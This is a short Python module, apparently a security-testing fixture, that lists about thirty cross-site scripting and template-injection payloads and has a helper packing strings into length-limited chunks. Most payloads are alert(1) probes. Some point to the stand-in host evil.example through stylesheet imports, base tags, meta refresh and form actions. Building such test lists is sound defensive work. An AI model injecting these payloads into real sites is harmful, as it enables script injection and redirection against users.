"""Texts that want to be scripts, for whatever people can type."""

from collections.abc import Sequence
from typing import Final

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)//--></script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x';</style>",
    "<link rel=stylesheet href=http://evil.example/x>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "<form action=http://evil.example/><button>x</button></form>",
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


def packed(texts: Sequence[str], length: int) -> list[str]:
    """Return the texts in as few ones as possible, none of them longer than that."""
    found: list[str] = []
    for text in texts:
        longer = f"{found[-1]} {text}" if found else text
        if found and len(longer) <= length:
            found[-1] = longer
        else:
            found.append(text)
    return found
